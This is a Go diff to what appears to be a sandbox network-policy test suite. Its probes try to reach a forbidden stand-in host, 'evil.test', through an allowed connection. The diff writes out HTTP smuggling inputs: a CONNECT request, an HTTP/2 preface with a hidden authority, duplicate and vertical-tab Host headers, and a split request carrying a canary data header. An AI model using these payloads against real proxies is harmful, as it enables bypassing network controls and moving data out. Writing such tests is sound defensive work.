@@ -43,15 +43,12 @@ func requestProbes() []Probe {
 			"GET /v1/x HTTP/1.1\r\n"+host+"Connection: Upgrade\r\nUpgrade: TLS/1.0\r\n\r\n"+hidden, "CONNECT evil.test:443 HTTP/1.1\r\nHost: evil.test:443\r\n\r\n"+hidden, "GET /v1/x HTTP/1.1\r\n"+host+"\r\n"+hidden),
 		inspected("NET-033", "another authority within HTTP/2", Medium, "HTTP/2 by prior knowledge begins with a line of its own; the name of each request is within.", refs("RFC 9113, 3.3"),
 			"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"+hidden, "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\x00\x00\x00\x04\x00\x00\x00\x00\x00\x00\x00\x16\x01\x05\x00\x00\x00\x01\x82\x86\x84\x41\x09evil.test\x44\x06/admin"),
-		{
-			ID: "NET-059", Name: "the beginning of a request that is not allowed", Guarantee: profiles.NetTransparent, Severity: Medium, Setting: Caged | Proxy, Flags: allowTest,
+		{ID: "NET-059", Name: "the beginning of a request that is not allowed", Guarantee: profiles.NetTransparent, Severity: Medium, Setting: Caged | Proxy, Flags: allowTest,
 			Expect: "no byte reaches the server before its name is judged", Key: "network.allow",
 			Explain: "A server that answers, or writes down, half of a request has received what the other half would have been denied for.",
 			Payload: func(in *Inside) Outcome {
 				c, err := net.DialTimeout("tcp", "allowed.test:80", patience(2*time.Second))
-				if err != nil {
-					return Blocked("connect: %v", cause(err))
-				}
+				blockedBy(err, "connect")
 				defer c.Close()
 				c.SetDeadline(time.Now().Add(patience(2 * time.Second)))
 				for _, part := range []string{"GET /carries-data HTTP/1.1\r\n", "X-Data: canary\r\n", "Host: evil.test\r\n\r\n"} {
@@ -63,10 +60,8 @@ func requestProbes() []Probe {
 				data, _ := io.ReadAll(io.LimitReader(c, 4096))
 				return Blocked("%.80q", data)
 			},
-			Observe: hitDecides(`tcp 20.0.0.10:80 "GET /carries-data`),
-		},
-		{
-			ID: "NET-060", Name: "a request for another host in disguise", Guarantee: profiles.NetTransparent, Severity: High, Setting: Caged | Proxy, Flags: allowTest,
+			Observe: hitDecides(`tcp 20.0.0.10:80 "GET /carries-data`)},
+		{ID: "NET-060", Name: "a request for another host in disguise", Guarantee: profiles.NetTransparent, Severity: High, Setting: Caged | Proxy, Flags: allowTest,
 			Expect: "refused: whatever a server may take for a request is read as one", References: refs("RFC 9112, 2.2"), Key: "network.allow",
 			Explain: "Over a connection to an allowed name, in forms that servers understand and a reader of first bytes may not: another method, another version, empty lines, bare line ends, the host in the target.",
 			Payload: func(in *Inside) Outcome {
@@ -76,8 +71,7 @@ func requestProbes() []Probe {
 					strings.Repeat("A", 5000) + " / HTTP/1.1\r\nHost: evil.test\r\n\r\n", "GET / HTTP/1.1\r\nHost: allowed.test\r\nHost: evil.test\r\n\r\n", "GET / HTTP/1.1\r\nHost:\x0bevil.test\r\n\r\n",
 				})
 			},
-			Observe: hitDecides("host 20.0.0.10:80 evil.test", "request 20.0.0.10:80 GET http://evil.test"),
-		},
+			Observe: hitDecides("host 20.0.0.10:80 evil.test", "request 20.0.0.10:80 GET http://evil.test")},
 	}
 }
 
@@ -88,9 +82,7 @@ func (in *Inside) sendAll(texts []string) Outcome {
 	var last string
 	for _, text := range texts {
 		c, err := net.DialTimeout("tcp", "allowed.test:80", patience(2*time.Second))
-		if err != nil {
-			return Blocked("connect: %v", cause(err))
-		}
+		blockedBy(err, "connect")
 		c.SetDeadline(time.Now().Add(patience(300 * time.Millisecond)))
 		if _, err := io.WriteString(c, text); err == nil {
 			data, _ := io.ReadAll(io.LimitReader(c, 4096))
